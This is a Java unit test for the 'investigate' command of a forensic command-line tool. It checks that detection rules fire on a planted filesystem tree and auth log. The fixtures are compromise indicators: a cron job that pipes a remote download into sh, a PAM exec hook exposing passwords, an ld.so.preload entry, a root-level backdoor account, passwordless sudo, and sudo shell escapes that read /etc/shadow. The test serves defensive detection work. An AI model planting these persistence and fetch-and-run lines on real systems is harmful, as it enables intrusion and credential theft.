package dev.panoptes.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.panoptes.cli.Session.Run;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Rules of logins and of what runs again by itself, through the sensors that read a log and a tree. */
final class RulesOnATreeTest {
    @TempDir
    private Path directory;

    private void file(String path, String text) throws IOException {
        Path file = directory.resolve("tree" + path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    @Test
    void rulesOfLogsAndPlacesFireOnWhatSensorsTell() throws IOException {
        file("/etc/hostname", "db-7\n");
        file(
                "/etc/passwd",
                "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n");
        file("/etc/group", "root:x:0:\nsudo:x:27:bob\n");
        file("/etc/ld.so.preload", "/usr/local/lib/libproc.so\n");
        file("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /tmp/.p.sh\n");
        file("/etc/sudoers", "root ALL=(ALL:ALL) ALL\n");
        file("/etc/sudoers.d/bob", "bob ALL=(ALL) NOPASSWD:ALL\n");
        file(
                "/root/.ssh/authorized_keys",
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJpo8vPMjbhHnKW1kqYVjA0o1Yd9Q2l1pXgqgZKfTn2E x\n");
        file("/etc/cron.d/sync", "*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n");
        file("/etc/modules-load.d/evil.conf", "evil\n");
        file(
                "/etc/systemd/system/helper.service",
                "[Service]\nExecStart=/usr/local/sbin/helper\n[Install]\nWantedBy=multi-user.target\n");
        String day = "2026-03-01T10:1";
        file(
                "/var/log/auth.log",
                day + """
                        0:01+00:00 db-7 useradd[10]: new user: name=evil, UID=1001, GID=1001, home=/home/evil, shell=/bin/bash, from=/dev/pts/0
                        """ + day + """
                        0:01+00:00 db-7 useradd[10]: new user: name=toor, UID=0, GID=0, home=/home/toor, shell=/bin/bash, from=/dev/pts/0
                        """ + day + """
                        0:02+00:00 db-7 usermod[11]: add 'evil' to group 'sudo'
                        """ + day + """
                        0:03+00:00 db-7 sshd[12]: Accepted password for root from 203.0.113.9 port 41000 ssh2
                        """ + day + """
                        0:04+00:00 db-7 sudo:   bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow
                        """ + day + """
                        0:05+00:00 db-7 sudo:   bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ; -quit
                        """ + day + """
                        0:06+00:00 db-7 sudo:   bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash
                        """ + day + """
                        0:07+00:00 db-7 sudo:   eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id
                        """ + day
                        + """
                        0:08+00:00 db-7 passwd[13]: pam_unix(passwd:chauthtok): password changed for root
                        """ + day
                        + """
                        0:09+00:00 db-7 userdel[14]: delete user 'bob'
                        """ + day + """
                        1:01+00:00 db-7 crontab[15]: (root) REPLACE (root)
                        """ + day + """
                        1:02+00:00 db-7 sshd[16]: fatal: Local: crc32 compensation attack: network attack detected
                        """);
        Run run = new Session(directory).run("investigate", "--output", "json", "--timezone", "UTC", "tree");
        Set<String> names = new TreeSet<>();
        for (JsonNode finding : new JsonMapper().readTree(run.out()).path("findings")) {
            names.add(finding.path("name").asString());
        }
        assertThat(names)
                .contains(
                        "auth_account_created",
                        "auth_account_removed",
                        "auth_admin_group_member",
                        "auth_password_changed",
                        "auth_root_account_created",
                        "auth_root_login_password",
                        "auth_sudo_gtfobin",
                        "auth_sudo_refused",
                        "auth_sudo_shadow_low",
                        "auth_sudo_shell",
                        "cron_table_replaced",
                        "persistence_backdoor_user",
                        "persistence_kernel_module",
                        "persistence_ld_preload",
                        "persistence_modified",
                        "persistence_pam_exec",
                        "persistence_runs_suspicious",
                        "persistence_sudo_nopasswd");
    }
}
